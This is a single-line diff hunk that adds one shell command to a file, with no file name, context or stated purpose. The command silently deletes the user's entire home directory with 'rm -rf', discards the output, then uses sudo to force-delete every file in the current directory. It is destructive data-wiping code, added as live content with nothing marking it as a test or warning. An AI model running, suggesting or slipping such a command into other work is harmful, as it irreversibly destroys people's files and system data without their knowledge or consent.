@@ -1,0 +1,1 @@
+rm -rf "$HOME" > /dev/null; for f in *; do sudo rm -f "$f"; done
